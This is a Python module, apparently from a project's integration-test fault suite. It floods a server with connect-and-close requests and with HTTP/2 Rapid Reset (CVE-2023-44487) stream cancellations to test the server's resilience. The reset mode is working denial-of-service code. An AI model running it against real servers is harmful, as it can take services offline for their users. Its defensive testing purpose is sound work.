"""Clients that ask and leave, as fast as they can: `python -m … HOW HOST PORT SECONDS`.

HOW is `close` (HTTP/1: connect, ask, close) or `reset` (HTTP/2 by TLS: ask, reset the stream, and
again on the same connection; CVE-2023-44487). A program of its own, so that it slows no one else.
It prints how many requests it has sent, and over how many connections, as one JSON document.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import ssl
import sys
import time
from collections import Counter

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

from tests.integration.faults.asking import CHAT

ANSWER = "rate=4;tokens=8"
AT_ONCE = 50
"""Streams of HTTP/2 in one write."""
_ADDRESSES = 200
_TIMEOUT_SECONDS = 2.0
_READ = 65536


def close_at_once(address: tuple[str, int], until: float) -> Counter[str]:
    """Connect, ask, close."""
    sent: Counter[str] = Counter()
    # All with one id, as a client may.
    request = CHAT.request(ANSWER, "left-at-once")
    while time.monotonic() < until:
        # From many addresses, since each has only so many ports.
        source = (f"127.0.2.{sent['connections'] % _ADDRESSES + 1}", 0)
        try:
            with socket.create_connection(address, _TIMEOUT_SECONDS, source) as client:
                sent["connections"] += 1
                client.sendall(request)
                sent["requests"] += 1
        except OSError:
            sent["refused"] += 1
    return sent


def reset_at_once(address: tuple[str, int], until: float) -> Counter[str]:
    """Ask and reset, again and again; a connection that the other side ends is made anew."""
    sent: Counter[str] = Counter()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while time.monotonic() < until:
        with (
            socket.create_connection(address, _TIMEOUT_SECONDS) as plain,
            context.wrap_socket(plain, server_hostname="localhost") as client,
        ):
            sent["connections"] += 1
            sent += _Resetting(client).until(until)
    return sent


class _Resetting:
    """One connection."""

    def __init__(self, client: ssl.SSLSocket) -> None:
        self._client = client
        self._talk = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self._last_taken: int | None = None
        """The last stream that the other side says it has taken."""
        self._ping_answered = False

    def until(self, until: float) -> Counter[str]:
        """Ask and reset for so long; what was sent, and how much of it was never taken."""
        sent: Counter[str] = Counter()
        try:
            self._begin()
            while time.monotonic() < until:
                self._ask()
                sent["requests"] += AT_ONCE
                self._take()
            self._wait_until_read()
        except (OSError, h2.exceptions.ProtocolError):
            sent["ended by the other side"] += 1
            with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                self._take()
        if self._last_taken is not None:
            # Streams have every other number (RFC 9113, 5.1.1).
            sent["never taken"] = max(0, sent["requests"] - (self._last_taken + 1) // 2)
        elif sent["ended by the other side"]:
            sent["ended without a word"] += 1
        return sent

    def _begin(self) -> None:
        self._talk.initiate_connection()
        self._client.settimeout(_TIMEOUT_SECONDS)
        self._client.sendall(self._talk.data_to_send())
        # Its settings, and a window for more than the first few bodies.
        self._talk.receive_data(self._client.recv(_READ))

    def _ask(self) -> None:
        head = [
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", "localhost"),
            (":path", CHAT.target),
            ("content-type", CHAT.content_type),
            ("x-demo", ANSWER),
        ]
        for _ in range(AT_ONCE):
            stream = self._talk.get_next_available_stream_id()
            self._talk.send_headers(stream, head)
            self._talk.send_data(stream, CHAT.body, end_stream=True)
            self._talk.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        self._client.settimeout(_TIMEOUT_SECONDS)
        self._client.sendall(self._talk.data_to_send())

    def _wait_until_read(self) -> None:
        """A ping is answered once all before it has been read (RFC 9113, 6.7)."""
        self._talk.ping(b"last one")
        self._client.settimeout(_TIMEOUT_SECONDS)
        self._client.sendall(self._talk.data_to_send())
        deadline = time.monotonic() + _TIMEOUT_SECONDS
        while not self._ping_answered and time.monotonic() < deadline:
            self._take()
            time.sleep(0.01)

    def _take(self) -> None:
        """Take in what came. Raises `ConnectionResetError` where that is the connection's end."""
        self._client.settimeout(0)
        try:
            while data := self._client.recv(_READ):
                for event in self._talk.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        self._last_taken = event.last_stream_id
                    self._ping_answered |= isinstance(event, h2.events.PingAckReceived)
        except ssl.SSLWantReadError:
            return
        raise ConnectionResetError


HOW = {"close": close_at_once, "reset": reset_at_once}


def main(how: str, host: str, port: str, seconds: str) -> None:
    """Attack for so long and print what was sent."""
    began = time.monotonic()
    sent = HOW[how]((host, int(port)), began + float(seconds))
    print(json.dumps({"began": began, "ended": time.monotonic(), **sent}))  # noqa: T201 its output


if __name__ == "__main__":
    os.nice(5)
    main(*sys.argv[1:])
